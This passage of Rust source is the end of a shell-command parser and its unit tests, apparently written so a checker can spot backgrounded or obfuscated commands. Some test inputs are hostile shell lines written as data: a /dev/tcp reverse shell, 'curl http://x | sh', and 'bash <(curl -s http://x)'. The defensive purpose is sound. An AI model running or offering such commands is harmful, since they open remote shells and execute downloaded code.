        }
        self.parse_list(depth + 1, Ctx::PAREN);
        if self.peek() == Some(b')') {
            self.pos += 1;
        }
    }

    /// After an opening `(`: skip to just past the matching `)` without parsing.
    fn skip_balanced(&mut self) {
        let mut open = 1usize;
        while let Some(c) = self.peek() {
            self.pos += 1;
            match c {
                b'\\' => self.advance(1),
                b'\'' => self.skip_past(b'\''),
                b'"' => {
                    while let Some(q) = self.peek() {
                        self.advance(if q == b'\\' { 2 } else { 1 });
                        if q == b'"' {
                            break;
                        }
                    }
                }
                b'(' => open += 1,
                b')' => {
                    open -= 1;
                    if open == 0 {
                        return;
                    }
                }
                _ => {}
            }
        }
    }

    /// After `${`: skip to the matching `}`, parsing command substitutions inside.
    fn param(&mut self, depth: u32, in_dquote: bool) {
        let mut open = 1usize;
        while let Some(c) = self.peek() {
            match c {
                b'`' => {
                    self.backtick(depth, in_dquote);
                    continue;
                }
                b'$' if self.peek_at(1) == Some(b'(') => {
                    self.pos += 2;
                    self.dollar_paren(depth);
                    continue;
                }
                _ => {}
            }
            self.pos += 1;
            match c {
                b'\\' => self.advance(1),
                b'\'' if !in_dquote => self.skip_past(b'\''),
                b'"' => self.skip_dquote(depth),
                b'{' => open += 1,
                b'}' => {
                    open -= 1;
                    if open == 0 {
                        return;
                    }
                }
                _ => {}
            }
        }
    }

    /// After `"` inside `${...}`: skip to the closing quote, parsing command substitutions.
    fn skip_dquote(&mut self, depth: u32) {
        while let Some(c) = self.peek() {
            match c {
                b'"' => {
                    self.pos += 1;
                    return;
                }
                b'\\' => self.advance(2),
                b'`' => self.backtick(depth, true),
                b'$' if self.peek_at(1) == Some(b'(') => {
                    self.pos += 2;
                    self.dollar_paren(depth);
                }
                _ => self.pos += 1,
            }
        }
    }

    /// At a backquote: skip past the closing one and parse the (unescaped) content one level deeper.
    fn backtick(&mut self, depth: u32, in_dquote: bool) {
        self.pos += 1;
        let nested = !self.split && depth < MAX_DEPTH;
        let mut inner = Vec::new();
        while let Some(c) = self.peek() {
            self.pos += 1;
            match c {
                b'`' => break,
                b'\\' => match self.peek() {
                    Some(e @ (b'`' | b'\\' | b'$')) => {
                        self.pos += 1;
                        if nested {
                            inner.push(e);
                        }
                        continue;
                    }
                    Some(b'"') if in_dquote => {
                        self.pos += 1;
                        if nested {
                            inner.push(b'"');
                        }
                        continue;
                    }
                    _ => {}
                },
                _ => {}
            }
            if nested {
                inner.push(c);
            }
        }
        if nested && !inner.is_empty() {
            let mut sub = Parser {
                src: &inner,
                pos: 0,
                out: mem::take(&mut self.out),
                heredocs: Vec::new(),
                split: false,
                inherit_budget: self.inherit_budget,
                next_pipeline: self.next_pipeline,
                pending_function: None,
                functions: mem::take(&mut self.functions),
            };
            sub.parse_list(depth + 1, Ctx::TOP);
            self.out = sub.out;
            self.functions = sub.functions;
            self.inherit_budget = sub.inherit_budget;
            self.next_pipeline = sub.next_pipeline;
        }
    }

    /// After `$'`: decode ANSI-C escapes up to the closing `'` (bash semantics).
    fn read_ansi_c(&mut self, buf: &mut Vec<u8>) {
        while let Some(c) = self.peek() {
            self.pos += 1;
            match c {
                b'\'' => return,
                b'\\' => {}
                _ => {
                    buf.push(c);
                    continue;
                }
            }
            let Some(e) = self.peek() else {
                buf.push(b'\\');
                return;
            };
            self.pos += 1;
            match e {
                b'a' => buf.push(0x07),
                b'b' => buf.push(0x08),
                b'e' | b'E' => buf.push(0x1b),
                b'f' => buf.push(0x0c),
                b'n' => buf.push(b'\n'),
                b'r' => buf.push(b'\r'),
                b't' => buf.push(b'\t'),
                b'v' => buf.push(0x0b),
                b'\\' | b'\'' | b'"' | b'?' => buf.push(e),
                b'0'..=b'7' => {
                    // One to three octal digits, as bash does for `$'...'`.
                    let mut v = u32::from(e - b'0');
                    for _ in 0..2 {
                        match self.peek() {
                            Some(d @ b'0'..=b'7') => {
                                v = v * 8 + u32::from(d - b'0');
                                self.pos += 1;
                            }
                            _ => break,
                        }
                    }
                    buf.push((v & 0xff) as u8);
                }
                b'x' => match self.hex_digits(2) {
                    Some(v) => buf.push((v & 0xff) as u8),
                    None => buf.extend_from_slice(b"\\x"),
                },
                b'u' | b'U' => match self.hex_digits(if e == b'u' { 4 } else { 8 }) {
                    Some(v) => {
                        let ch = char::from_u32(v).unwrap_or(char::REPLACEMENT_CHARACTER);
                        buf.extend_from_slice(ch.encode_utf8(&mut [0; 4]).as_bytes());
                    }
                    None => buf.extend_from_slice(&[b'\\', e]),
                },
                b'c' => match self.peek() {
                    Some(x) => {
                        self.pos += 1;
                        buf.push(x & 0x1f);
                    }
                    None => buf.extend_from_slice(b"\\c"),
                },
                _ => buf.extend_from_slice(&[b'\\', e]),
            }
        }
    }

    /// Up to `max` hex digits at the cursor, if there is at least one.
    fn hex_digits(&mut self, max: usize) -> Option<u32> {
        let mut v = 0u32;
        let mut n = 0;
        while n < max {
            match self.peek().and_then(|c| char::from(c).to_digit(16)) {
                Some(d) => {
                    v = v * 16 + d;
                    self.pos += 1;
                    n += 1;
                }
                None => break,
            }
        }
        (n > 0).then_some(v)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn words(c: &SimpleCommand) -> Vec<&str> {
        c.words.iter().map(String::as_str).collect()
    }

    fn all_words(src: &str) -> Vec<Vec<String>> {
        parse(src).into_iter().map(|c| c.words).collect()
    }

    fn red(fd: Option<u32>, op: &str, target: &str) -> Redirect {
        Redirect {
            fd,
            op: op.to_string(),
            target: target.to_string(),
        }
    }

    #[test]
    fn single_quotes_are_literal() {
        let c = parse(r#"echo 'a\nb $x "q" `id` $(id)'"#);
        assert_eq!(c.len(), 1);
        assert_eq!(words(&c[0]), ["echo", r#"a\nb $x "q" `id` $(id)"#]);
        assert_eq!(split_words("'it''s'"), ["its"]);
    }

    #[test]
    fn double_quotes() {
        let c = parse(r#"echo "a\$b \"c\" \\ \x \`" "x"y'z'"#);
        assert_eq!(words(&c[0]), ["echo", r#"a$b "c" \ \x `"#, "xyz"]);
        let c = parse("echo \"a\\\nb\"");
        assert_eq!(words(&c[0]), ["echo", "ab"]);
        // `$(...)` nests inside double quotes; `'` does not quote there.
        let c = parse(r#"echo "x $(nohup /tmp/z 'a)' &) y""#);
        assert_eq!(c.len(), 2);
        assert_eq!(words(&c[0]), ["echo", "x $(nohup /tmp/z 'a)' &) y"]);
        assert_eq!(words(&c[1]), ["nohup", "/tmp/z", "a)"]);
        assert!(c[1].background && !c[0].background);
        assert_eq!(c[1].depth, 1);
    }

    #[test]
    fn ansi_c_quoting() {
        let c = parse(r"printf $'a\nb\tc\\d\'e\x41\x6e\0101\101\u00e9\q'");
        assert_eq!(words(&c[0]), ["printf", "a\nb\tc\\d'eAn\u{8}1A\u{e9}\\q"]);
        assert_eq!(
            all_words(r"$'\x6e\x6f\x68\x75\x70' ./x"),
            [["nohup", "./x"]]
        );
        // Not decoded inside double quotes; invalid UTF-8 is replaced.
        assert_eq!(
            all_words(r#"echo "$'\n'" $'\xff'"#),
            [["echo", r"$'\n'", "\u{fffd}"]]
        );
        // `$"..."` is a double-quoted string.
        assert_eq!(all_words(r#"echo $"a b""#), [["echo", "a b"]]);
    }

    #[test]
    fn backslash_newline_continuation() {
        assert_eq!(all_words("noh\\\nup ./x \\\n -a"), [["nohup", "./x", "-a"]]);
        assert_eq!(all_words("a &\\\n& b"), [["a"], ["b"]]);
        assert_eq!(split_words("a \\\n b"), ["a", "b"]);
    }

    #[test]
    fn unquoted_backslash_escapes() {
        assert_eq!(
            all_words(r"\n\o\h\u\p a\ b \& \; \$x \\"),
            [["nohup", "a b", "&", ";", "$x", "\\"]]
        );
        let c = parse(r"echo x\&");
        assert_eq!(c.len(), 1);
        assert!(!c[0].background);
        // Trailing backslash is kept.
        assert_eq!(all_words("echo a\\"), [["echo", "a\\"]]);
    }

    #[test]
    fn comments() {
        assert_eq!(all_words("echo a#b # nohup x &"), [["echo", "a#b"]]);
        assert_eq!(
            all_words("#nohup x\nls $#;#c\nid"),
            [vec!["ls", "$#"], vec!["id"]]
        );
        assert_eq!(all_words("echo '#x' \\#y"), [["echo", "#x", "#y"]]);
    }

    #[test]
    fn operators() {
        let c = parse("a; b & c && d || e | f |& g\nh");
        let w: Vec<_> = c.iter().map(|c| c.words[0].as_str()).collect();
        assert_eq!(w, ["a", "b", "c", "d", "e", "f", "g", "h"]);
        let bg: Vec<_> = c.iter().map(|c| c.background).collect();
        assert_eq!(bg, [false, true, false, false, false, false, false, false]);
        let pipe: Vec<_> = c.iter().map(|c| c.in_pipeline).collect();
        assert_eq!(pipe, [false, false, false, false, true, true, true, false]);
        // Operators need no spaces.
        assert_eq!(
            all_words("a;b&c&&d||e|f"),
            [["a"], ["b"], ["c"], ["d"], ["e"], ["f"]]
        );
        // `;;` outside case is a separator; a stray `)` is skipped.
        assert_eq!(all_words("a;; b ) c"), [vec!["a"], vec!["b"], vec!["c"]]);
    }

    #[test]
    fn redirections() {
        let c = parse("cmd >/dev/null 2>&1 &>/dev/null 2>>log <in 0<>rw 1>|f <&3 3>&- &>>all >&2");
        assert_eq!(words(&c[0]), ["cmd"]);
        assert_eq!(
            c[0].redirects,
            [
                red(None, ">", "/dev/null"),
                red(Some(2), ">&", "1"),
                red(None, "&>", "/dev/null"),
                red(Some(2), ">>", "log"),
                red(None, "<", "in"),
                red(Some(0), "<>", "rw"),
                red(Some(1), ">|", "f"),
                red(None, "<&", "3"),
                red(Some(3), ">&", "-"),
                red(None, "&>>", "all"),
                red(None, ">&", "2"),
            ]
        );
        let c = parse("cat <<<'a b' > \"out file\"");
        assert_eq!(
            c[0].redirects,
            [red(None, "<<<", "a b"), red(None, ">", "out file")]
        );
        // Digits not followed by `<`/`>` are a word; an fd word must be unbroken.
        let c = parse("echo 12 3 >x a2>y");
        assert_eq!(words(&c[0]), ["echo", "12", "3", "a2"]);
        assert_eq!(c[0].redirects, [red(None, ">", "x"), red(None, ">", "y")]);
        // Missing target.
        assert_eq!(parse("echo >")[0].redirects, [red(None, ">", "")]);
    }

    #[test]
    fn redirection_positions() {
        let c = parse(">out nohup 2>/dev/null x <in");
        assert_eq!(c.len(), 1);
        assert_eq!(words(&c[0]), ["nohup", "x"]);
        assert_eq!(
            c[0].redirects,
            [
                red(None, ">", "out"),
                red(Some(2), ">", "/dev/null"),
                red(None, "<", "in")
            ]
        );
        // Only redirections: still a command, with no words.
        let c = parse(">/tmp/x");
        assert!(c[0].words.is_empty());
        assert_eq!(c[0].redirects.len(), 1);
    }

    #[test]
    fn nohup_background_with_redirects() {
        let c = parse("nohup ./x > /dev/null 2>&1 &");
        assert_eq!(c.len(), 1);
        assert_eq!(words(&c[0]), ["nohup", "./x"]);
        assert!(c[0].background && !c[0].in_pipeline);
        assert_eq!(
            c[0].redirects,
            [red(None, ">", "/dev/null"), red(Some(2), ">&", "1")]
        );
        assert_eq!(c[0].depth, 0);
    }

    #[test]
    fn zsh_disowning_background() {
        for text in [
            "nohup /tmp/x &!",
            "nohup /tmp/x &| ; id",
            "nohup /tmp/x & disown",
        ] {
            let c = parse(text);
            assert_eq!(words(&c[0]), ["nohup", "/tmp/x"], "{text}");
            assert!(c[0].background, "{text}");
            assert!(
                !c.iter()
                    .any(|c| c.words.first().is_some_and(|w| w == "!" || w == "|"))
            );
        }
    }

    #[test]
    fn background_scope() {
        let c = parse("a && b &");
        assert!(c.iter().all(|c| c.background));
        let c = parse("a & b");
        assert!(c[0].background && !c[1].background);
        let c = parse("a|b &");
        assert!(c.iter().all(|c| c.background && c.in_pipeline));
        let c = parse("a && b; c");
        assert!(c.iter().all(|c| !c.background));
        let c = parse("a || b & c && d");
        let bg: Vec<_> = c.iter().map(|c| c.background).collect();
        assert_eq!(bg, [true, true, false, false]);
    }

    #[test]
    fn quoted_operators_are_words() {
        let c = parse(r#"echo "nohup x &""#);
        assert_eq!(c.len(), 1);
        assert_eq!(words(&c[0]), ["echo", "nohup x &"]);
        assert!(!c[0].background);
    }

    #[test]
    fn reverse_shell() {
        let c = parse("bash -i >& /dev/tcp/127.0.0.1/9 0>&1");
        assert_eq!(c.len(), 1);
        assert_eq!(words(&c[0]), ["bash", "-i"]);
        assert_eq!(
            c[0].redirects,
            [
                red(None, ">&", "/dev/tcp/127.0.0.1/9"),
                red(Some(0), ">&", "1")
            ]
        );
    }

    #[test]
    fn assignments() {
        let c = parse(r#"X=1 Y="a b" nohup x Z=2"#);
        assert_eq!(c[0].assignments, ["X=1", "Y=a b"]);
        assert_eq!(words(&c[0]), ["nohup", "x", "Z=2"]);
        let c = parse("x=1");
        assert_eq!(c[0].assignments, ["x=1"]);
        assert!(c[0].words.is_empty());
        // Not assignments: quoted or expanded names, bad names.
        assert_eq!(
            all_words(r#""X"=1 $Y=2 1a=3 =4"#),
            [[r"X=1", "$Y=2", "1a=3", "=4"]]
        );
        let c = parse("a+=x b[1]=y arr=(1 '2 3') cmd");
        assert_eq!(c[0].assignments, ["a+=x", "b[1]=y", "arr=(1 '2 3')"]);
        assert_eq!(words(&c[0]), ["cmd"]);
    }

    #[test]
    fn for_loop() {
        let c = parse("for i in 1 2; do nohup ./a$i & done");
        assert_eq!(c.len(), 1);
        assert_eq!(words(&c[0]), ["nohup", "./a$i"]);
        assert!(c[0].background);
        assert_eq!(c[0].depth, 1);
        let c = parse("for f in $(ls /tmp)\ndo\n rm $f\ndone; for ((i=0;i<3;i++)); do x; done");
        assert_eq!(
            c.iter().map(|c| c.words[0].as_str()).collect::<Vec<_>>(),
            ["ls", "rm", "x"]
        );
        assert_eq!(
            parse("select x in a b; do nohup y; done")[0].words[0],
            "nohup"
        );
    }

    #[test]
    fn compound_stages_are_marked_with_their_pipeline() {
        let c = parse("a | (b; c | d) | e; f");
        let by_word = |w: &str| c.iter().find(|c| words(c)[0] == w).unwrap();
        let (a, b, c_, d, e, f) = (
            by_word("a"),
            by_word("b"),
            by_word("c"),
            by_word("d"),
            by_word("e"),
            by_word("f"),
        );
        assert_eq!((a.stage, e.stage), (0, 2));
        assert_eq!(a.pipeline, e.pipeline);
        assert_eq!(b.group_stage, Some((a.pipeline, 1)));
        assert_eq!(c_.group_stage, Some((a.pipeline, 1)));
        assert_eq!(d.group_stage, Some((a.pipeline, 1)));
        assert_eq!((c_.stage, d.stage), (0, 1));
        assert_eq!(c_.pipeline, d.pipeline);
        assert_ne!(b.pipeline, c_.pipeline);
        assert_eq!(
            (a.group_stage, e.group_stage, f.group_stage),
            (None, None, None)
        );
        // A substitution in a word is not a stage; a loop is.
        let c = parse("echo $(id) | sh");
        assert!(c.iter().all(|c| c.group_stage.is_none()));
        let c = parse("while read l; do echo $l; done < f | sh");
        let sh = c.iter().find(|c| words(c)[0] == "sh").unwrap();
        let echo = c.iter().find(|c| words(c)[0] == "echo").unwrap();
        assert_eq!(sh.stage, 1);
        assert_eq!(echo.group_stage, Some((sh.pipeline, 0)));
    }

    #[test]
    fn subshell_and_group() {
        for src in [
            "(nohup /tmp/x &)",
            "{ nohup /tmp/x & }",
            "(nohup /tmp/x) &",
            "{ nohup /tmp/x; } &",
        ] {
            let c = parse(src);
            assert_eq!(c.len(), 1, "{src}");
            assert_eq!(words(&c[0]), ["nohup", "/tmp/x"], "{src}");
            assert!(c[0].background, "{src}");
            assert_eq!(c[0].depth, 1, "{src}");
        }
        let c = parse("(a; b) & c");
        assert!(c[0].background && c[1].background && !c[2].background);
        let c = parse("(a) | { b; c; }");
        assert!(c.iter().all(|c| c.in_pipeline && c.depth == 1));
        // Keyword braces need to be separate words; `}` is an argument after a word.
        assert_eq!(
            all_words("{echo,hi}; echo }"),
            [vec!["{echo,hi}"], vec!["echo", "}"]]
        );
    }

    #[test]
    fn compound_redirects_apply_inside() {
        let c = parse("{ nohup x 2>&1; y; } >/dev/null &");
        assert_eq!(
            c[0].redirects,
            [red(None, ">", "/dev/null"), red(Some(2), ">&", "1")]
        );
        assert_eq!(c[1].redirects, [red(None, ">", "/dev/null")]);
        assert!(c.iter().all(|c| c.background));
        let c = parse("while read l; do echo $l; done < <(curl http://x)");
        let w: Vec<_> = c.iter().map(|c| c.words[0].as_str()).collect();
        assert_eq!(w, ["read", "echo", "curl"]);
        assert_eq!(c[0].redirects, [red(None, "<", "<(curl http://x)")]);
        assert!(c[2].redirects.is_empty());
    }

    #[test]
    fn command_substitution() {
        let c = parse("echo $(curl http://x | sh) done");
        assert_eq!(c.len(), 3);
        assert_eq!(words(&c[0]), ["echo", "$(curl http://x | sh)", "done"]);
        assert_eq!(words(&c[1]), ["curl", "http://x"]);
        assert_eq!(words(&c[2]), ["sh"]);
        assert!(c[1].in_pipeline && c[2].in_pipeline && !c[0].in_pipeline);
        assert_eq!((c[0].depth, c[1].depth), (0, 1));
        let c = parse("x=$(nohup /tmp/a &)");
        assert_eq!(c[0].assignments, ["x=$(nohup /tmp/a &)"]);
        assert!(c[0].words.is_empty() && !c[0].background);
        assert_eq!(words(&c[1]), ["nohup", "/tmp/a"]);
        assert!(c[1].background);
        // A `)` inside a case pattern or quotes does not close `$(`.
        let c = parse("v=$(case $1 in a) nohup p ;; esac; echo ')') tail");
        let w: Vec<_> = c
            .iter()
            .map(|c| c.words.first().map_or("", String::as_str))
            .collect();
        assert_eq!(w, ["tail", "nohup", "echo"]);
        // Nested; arithmetic is not a command; `${...}` kept whole.
        let c = parse("echo $(echo $(id)) $((1+(2))) ${x:-$(whoami)} ${y//\\}/'}'}");
        let w: Vec<_> = c.iter().map(|c| c.words[0].as_str()).collect();
        assert_eq!(w, ["echo", "echo", "id", "whoami"]);
        assert_eq!(c[0].words[3], "${x:-$(whoami)}");
        assert_eq!(c[0].words[4], "${y//\\}/'}'}");
        assert_eq!(c.iter().map(|c| c.depth).collect::<Vec<_>>(), [0, 1, 2, 1]);
        // Background of the enclosing list applies to nested commands.
        let c = parse("echo $(nohup y) &");
        assert!(c[0].background && c[1].background);
    }

    #[test]
    fn backticks() {
        let c = parse("echo `curl http://x | sh` \"`nohup z &`\"");
        let w: Vec<_> = c.iter().map(|c| c.words[0].as_str()).collect();
        assert_eq!(w, ["echo", "curl", "sh", "nohup"]);
        assert_eq!(c[0].words[1], "`curl http://x | sh`");
        assert!(c[3].background && c[1].in_pipeline);
        // Escaped backquotes nest.
        let c = parse(r"a=`echo \`nohup q\``");
        let w: Vec<_> = c
            .iter()
            .map(|c| c.words.first().map_or("", String::as_str))
            .collect();
        assert_eq!(w, ["", "echo", "nohup"]);
        assert_eq!(c.iter().map(|c| c.depth).collect::<Vec<_>>(), [0, 1, 2]);
    }

    #[test]
    fn process_substitution() {
        let c = parse("bash <(curl -s http://x) >(tee log)");
        let w: Vec<_> = c.iter().map(|c| c.words[0].as_str()).collect();
        assert_eq!(w, ["bash", "curl", "tee"]);
        assert_eq!(words(&c[0]), ["bash", "<(curl -s http://x)", ">(tee log)"]);
    }

    #[test]
    fn case_statement() {
        let c = parse("case $x in a) nohup /tmp/a ;; (b|c) y & ;& *) z;;& esac; after");
        let w: Vec<_> = c.iter().map(|c| c.words[0].as_str()).collect();
        assert_eq!(w, ["nohup", "y", "z", "after"]);
        assert!(c[1].background && !c[0].background);
        assert_eq!(c[0].depth, 1);
        assert_eq!(
            all_words("case $(id) in\n x)\n  a\n  ;;\nesac"),
            [["id"], ["a"]]
        );
    }

    #[test]
    fn if_while_until() {
        let c = parse("if true; then nohup /tmp/y; elif b; then c; else d & fi");
        let w: Vec<_> = c.iter().map(|c| c.words[0].as_str()).collect();
        assert_eq!(w, ["true", "nohup", "b", "c", "d"]);
        assert!(c.iter().all(|c| c.depth == 1));
        assert!(c[4].background && !c[3].background);
        let c = parse("while :; do nohup a & done; until b\ndo c; done >log");
        let w: Vec<_> = c.iter().map(|c| c.words[0].as_str()).collect();
        assert_eq!(w, [":", "nohup", "b", "c"]);
        assert!(c[1].background);
        assert_eq!(c[3].redirects, [red(None, ">", "log")]);
        // Keywords only in command position; nesting adds depth.
        let c = parse("echo if then fi; if a; then if b; then c; fi; fi");
        assert_eq!(words(&c[0]), ["echo", "if", "then", "fi"]);
        assert_eq!(c.iter().map(|c| c.depth).collect::<Vec<_>>(), [0, 1, 2, 2]);
        // Prefixes `!` and `time` are not words.
        assert_eq!(
            all_words("! time -p nohup x | ! y"),
            [vec!["nohup", "x"], vec!["y"]]
        );
    }

    #[test]
    fn function_definitions_and_their_bodies() {
        let s = parse_script(
            "f() { nohup \"$@\" & }; function g { b; c; }; function h() (d); k () x; f /tmp/a",
        );
        let defs: Vec<(&str, Vec<&str>)> = s
            .functions
            .iter()
            .map(|f| {
                let body = s.commands[f.body.clone()]
                    .iter()
                    .map(|c| c.words[0].as_str())
                    .collect();
                (f.name.as_str(), body)
            })
            .collect();
        assert_eq!(
            defs,
            [
                ("f", vec!["nohup"]),
                ("g", vec!["b", "c"]),
                ("h", vec!["d"]),
                ("k", vec!["x"])
            ]
        );
        assert_eq!(s.commands.last().unwrap().words, ["f", "/tmp/a"]);
        // Calls are plain commands; no definition, no functions.
        assert!(parse_script("f /tmp/a; (g)").functions.is_empty());
        // An empty body, and a definition at the very end.
        let s = parse_script("f() { }; g()");
        assert_eq!(s.functions.len(), 1);
        assert!(s.functions[0].body.is_empty());
    }

    #[test]
    fn functions() {
        let c = parse("f() { nohup /tmp/a & }; function g { b; }; function h() (c); f");
        let w: Vec<_> = c.iter().map(|c| c.words[0].as_str()).collect();
        assert_eq!(w, ["nohup", "b", "c", "f"]);
        assert!(c[0].background);
        assert_eq!(c[0].depth, 1);
        assert_eq!(all_words("f ()\n{\n x\n}"), [["x"]]);
    }

    #[test]
    fn conditional_and_coproc() {
        let c = parse("[[ -f a && $x < b ]] && nohup y &");
        assert_eq!(words(&c[0]), ["[[", "-f", "a", "&&", "$x", "<", "b", "]]"]);
        assert!(c[0].redirects.is_empty());
        assert_eq!(words(&c[1]), ["nohup", "y"]);
        assert!(c[0].background && c[1].background);
        let c = parse("coproc nohup x; coproc NAME { y; }");
        assert_eq!(
            all_words("coproc nohup x; coproc NAME { y; }"),
            [vec!["nohup", "x"], vec!["y"]]
        );
        assert!(c.iter().all(|c| c.background));
    }

    #[test]
    fn heredocs() {
        let c = parse("cat <<EOF > /tmp/x\nnohup evil &\nEOF\nnohup good &");
        assert_eq!(c.len(), 2);
        assert_eq!(words(&c[0]), ["cat"]);
        assert_eq!(
            c[0].redirects,
            [red(None, "<<", "EOF"), red(None, ">", "/tmp/x")]
        );
        assert_eq!(words(&c[1]), ["nohup", "good"]);
        assert!(c[1].background && !c[0].background);
        // `<<-` strips tabs; quoted delimiter; two heredocs on one line.
        let src = "a <<-'E' ; b <<\"F\"\n\tx\n\tE\ny\nF\nc";
        assert_eq!(all_words(src), [["a"], ["b"], ["c"]]);
        assert_eq!(parse(src)[0].redirects, [red(None, "<<-", "E")]);
        // Inside a command substitution; unterminated body runs to the end.
        assert_eq!(
            all_words("x=$(cat <<E\n)\nE\n) ; d"),
            [vec![], vec!["cat"], vec!["d"]]
        );
        assert_eq!(all_words("cat <<E\nnohup x"), [["cat"]]);
    }

    #[test]
    fn unbalanced_input_is_tolerated() {
        assert_eq!(all_words("echo 'abc"), [["echo", "abc"]]);
        assert_eq!(
            all_words("echo \"a $(nohup b"),
            [["echo", "a $(nohup b"], ["nohup", "b"]]
        );
        assert_eq!(all_words("(a; { b"), [["a"], ["b"]]);
        assert_eq!(all_words("if a; then b"), [["a"], ["b"]]);
        assert_eq!(all_words(") fi done } esac then x"), [["x"]]);
        assert_eq!(all_words("( if a; then b )"), [["a"], ["b"]]);
        assert_eq!(all_words("echo `id"), [vec!["echo", "`id"], vec!["id"]]);
        assert!(parse("").is_empty() && parse(" \n;;&").is_empty());
    }

    #[test]
    fn utf8_words() {
        let c = parse("echo héllo\\日本 'ü' \"€\" $'\\u65e5'");
        assert_eq!(words(&c[0]), ["echo", "héllo日本", "ü", "€", "日"]);
    }

    #[test]
    fn split_words_quote_removal_only() {
        assert_eq!(split_words(r#""a b" c\ d 'e'"#), ["a b", "c d", "e"]);
        assert_eq!(
            split_words("sh -c 'nohup x &' a;b >c\t$(d e) `f g`\r\n"),
            ["sh", "-c", "nohup x &", "a;b", ">c", "$(d e)", "`f g`"]
        );
        assert_eq!(split_words("  "), Vec::<String>::new());
        assert_eq!(split_words("'' \"\""), ["", ""]);
    }

    #[test]
    fn depth_limit() {
        let n = MAX_DEPTH as usize;
        let ok = format!("{}nohup x{}", "(".repeat(n), ")".repeat(n));
        let c = parse(&ok);
        assert_eq!(c.len(), 1);
        assert_eq!(c[0].depth, MAX_DEPTH);
        let deep = format!("{}nohup x{}; y", "(".repeat(n + 1), ")".repeat(n + 1));
        assert_eq!(all_words(&deep), [["y"]]);
        let deep = format!("{}nohup x{}; y", "$(".repeat(n + 1), ")".repeat(n + 1));
        assert!(parse(&deep).iter().all(|c| c.depth <= MAX_DEPTH));
    }

    #[test]
    fn deep_nesting_does_not_overflow() {
        for unit in [
            "(",
            "$(",
            "{ ",
            "if ",
            "while ",
            "\"$(",
            "${x:-\"$(",
            "<(",
            "case x in a) ",
            "[[ $(",
            "x=$(",
        ] {
            let src = unit.repeat(200_000 / unit.len());
            let c = parse(&src);
            assert!(c.iter().all(|c| c.depth <= MAX_DEPTH), "{unit}");
        }
        // Backquotes nest only with exponential escaping; still bounded.
        let mut s = String::from("nohup x");
        for _ in 0..12 {
            s = format!("`{}`", s.replace('\\', "\\\\").replace('`', "\\`"));
        }
        let c = parse(&format!("echo {s}"));
        assert_eq!(
            c.last().map(|c| (c.words[0].as_str(), c.depth)),
            Some(("nohup", 12))
        );
    }

    #[test]
    fn command_limit() {
        let c = parse(&"a;".repeat(10_000));
        assert_eq!(c.len(), MAX_COMMANDS);
        let c = parse(&format!("echo {}", "$(b)".repeat(10_000)));
        assert_eq!(c.len(), MAX_COMMANDS);
        assert_eq!(c[0].words[0], "echo");
    }

    #[test]
    fn huge_inputs_finish() {
        let units = [
            "nohup ./x > /dev/null 2>&1 &\n",
            "a",
            "'",
            "\"",
            "`",
            "$(",
            "${",
            "((((",
            "<<a ",
            "<<a\n",
            "x=(",
            "\\",
            "é",
            "| ",
            "{ a; } >x ",
        ];
        for unit in units {
            let src = unit.repeat(2 * 1024 * 1024 / unit.len() + 1);
            assert!(src.len() > MAX_INPUT);
            let c = parse(&src);
            assert!(c.len() <= MAX_COMMANDS);
            assert!(split_words(&src).len() <= MAX_INPUT);
        }
        // A multi-byte char straddling the 1 MiB cut.
        let src = format!("{}é", "a".repeat(MAX_INPUT - 1));
        assert_eq!(parse(&src)[0].words[0].len(), MAX_INPUT - 1);
    }

    #[test]
    fn fuzz_never_panics() {
        #[rustfmt::skip]
        const FRAGS: &[&str] = &[
            " ", "\t", "\n", ";", "&", "|", "(", ")", "<", ">", "{", "}", "'", "\"", "\\", "$",
            "`", "#", "=", "!", "*", "[[", "]]", "a", "x", "0", "2", "é", "日", "\0", "\r", "$(",
            "${", "$'", "$((", "<(", "<<", "<<-", "<<<", "EOF", "EOF\n", "&&", "||", ";;", ";&",
            "|&", "&>", ">&", "2>&1", "if ", "then ", "elif ", "else ", "fi", "do ", "done",
            "while ", "until ", "for ", "in ", "case ", "esac", "function ", "coproc ", "time ",
            "select ", "nohup ", "f()", "X=", "\\x", "\\u", "\\0",
        ];
        let mut rng = crate::test_rng::XorShift::new(0x9e37_79b9_7f4a_7c15);
        let mut next = || rng.next();
        for _ in 0..20_000 {
            let len = next() % 40;
            let mut s = String::new();
            for _ in 0..len {
                s.push_str(FRAGS[(next() % FRAGS.len() as u64) as usize]);
            }
            let script = parse_script(&s);
            for c in &script.commands {
                assert!(c.depth <= MAX_DEPTH);
            }
            for f in &script.functions {
                assert!(f.body.start <= f.body.end && f.body.end <= script.commands.len());
            }
            assert!(split_words(&s).len() <= s.len());
        }
    }
}
